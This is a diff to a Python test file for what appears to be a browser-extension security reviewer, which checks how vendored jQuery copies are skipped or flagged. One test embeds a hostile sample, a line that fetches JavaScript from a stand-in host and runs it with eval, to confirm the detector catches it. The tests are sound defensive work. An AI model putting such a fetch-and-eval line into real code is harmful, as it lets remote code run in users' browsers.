@@ -56,21 +56,21 @@ def test_lodash_is_not_taken_for_the_library_that_it_is_based_on():
 
 def _review(folder, code):
     manifest = {"manifest_version": 3, "name": "Copies", "version": "1.0", "content_scripts": [
-        {"matches": ["https://example.org/*"], "js": ["lib/jquery.js"]}]}  # fmt: skip
+        {"matches": ["https://example.org/*"], "js": ["js/base.js"]}]}  # fmt: skip
     (folder / "manifest.json").write_text(json.dumps(manifest))
-    (folder / "lib").mkdir()
-    (folder / "lib" / "jquery.js").write_bytes(code)
+    (folder / "js").mkdir()
+    (folder / "js" / "base.js").write_bytes(code)
     return reviewer.review(folder, strictness="auditor", no_cache=True).reviews[0]
 
 
 def test_the_coverage_names_a_copy(tmp_path):
     review = _review(tmp_path, JQUERY + BODY + END)
-    reasons = [one.reason for one in review.coverage.skipped if one.path == "lib/jquery.js"]
+    reasons = [one.reason for one in review.coverage.skipped if one.path == "js/base.js"]
     assert reasons == ["a copy of jQuery 3.5.1, as its first lines say; only names of calls and imports were looked at"]
 
 
 def test_a_copy_into_which_somebody_wrote_is_looked_at_in_full(tmp_path):
     remote = b'fetch("https://x.example/a.js").then((r) => r.text()).then((t) => eval(t));\n'
     review = _review(tmp_path, JQUERY + BODY + remote + END)
-    assert "lib/jquery.js" not in {one.path for one in review.coverage.skipped}
-    assert ("SEC050", "lib/jquery.js") in {(finding.rule, finding.location.path) for finding in review.findings}
+    assert "js/base.js" not in {one.path for one in review.coverage.skipped}
+    assert ("SEC050", "js/base.js") in {(finding.rule, finding.location.path) for finding in review.findings}
